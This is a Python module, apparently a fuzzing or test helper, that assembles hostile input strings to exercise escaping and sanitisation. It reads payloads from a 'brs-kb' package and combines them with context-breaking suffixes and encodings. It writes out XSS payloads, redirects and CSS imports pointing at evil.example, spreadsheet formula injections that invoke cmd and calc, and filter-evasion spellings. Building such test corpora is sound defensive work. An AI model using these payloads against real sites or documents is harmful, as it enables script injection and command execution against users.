"""Hostile strings: those that a package of the registry lists, and systematic ones made of their like."""

import ast
import html
from collections.abc import Iterator
from functools import cache
from importlib.metadata import distribution
from itertools import product
from pathlib import Path
from urllib.parse import quote

_LONGEST = 2_000
"""Letters; the handful that is longer repeats itself."""

_LISTS = "brs_kb/payloads/"

_ENDS = (
    *("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "*/", "\\", "\\\\'", "\n", "{{", "&quot;>"),
    *("</script>", "</title>", "</textarea>", "</style>", "</noscript>", "</template>", "</svg>", "</a>"),
    *("https://www.example.go.th/", "https://www.example.go.th/?q=", "mailto:a@example.go.th?subject=", "x@"),
    *("</text></summary></entry>", "]);", '"]});', "\u2028", "\u00a0", "='", "${", "<![CDATA["),
)
"""What could end the place where a string stands: a value, an element, a script, a block of data."""

_ACTS = (
    *("<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<script>alert(1)</script>"),
    *('<a href="javascript:alert(1)">x</a>', "<iframe srcdoc='<script>alert(1)</script>'>"),
    *("<base href=//evil.example/>", '<meta http-equiv=refresh content="0;url=//evil.example">'),
    *(" onmouseover=alert(1) x=", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>"),
    *('=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'!A0", "-1+1"),
    *("<style>@import'//evil.example/x.css';</style>", "//evil.example/x", "{{constructor}}"),
)
"""What could act there."""


def _written(act: str) -> Iterator[str]:
    """Give a string in the spellings that a program behind could turn back into it."""
    yield act
    yield act.upper()
    yield quote(act)
    yield html.escape(act)
    yield "".join(f"&#{ord(letter)};" for letter in act)
    yield "".join(f"\\u{ord(letter):04x}" for letter in act)
    yield act.replace("<", "\uff1c").replace(">", "\uff1e")
    yield act.replace("script", "scr\tipt").replace("onerror", "on\terror")


@cache
def attacks() -> tuple[str, ...]:
    """List all hostile strings, each once, those of the package first."""
    made = (end + each for act, end in product(_ACTS, _ENDS) for each in _written(act))
    return tuple(dict.fromkeys(each for each in (*_listed(), *made) if each.strip() and _is_text(each)))


def _listed() -> Iterator[str]:
    """Read the strings of the package. Its files are read as data; nothing of it is run."""
    for file in sorted(distribution("brs-kb").files or (), key=str):
        if not (str(file).startswith(_LISTS) and file.suffix == ".py"):
            continue
        for node in ast.walk(ast.parse(Path(str(file.locate())).read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.keyword)
                and node.arg == "payload"
                and isinstance(node.value, ast.Constant)
            ):
                yield str(node.value.value)


def _is_text(text: str) -> bool:
    """Tell a string that a file in UTF-8 can hold."""
    return len(text) <= _LONGEST and not any("\ud800" <= letter <= "\udfff" for letter in text)
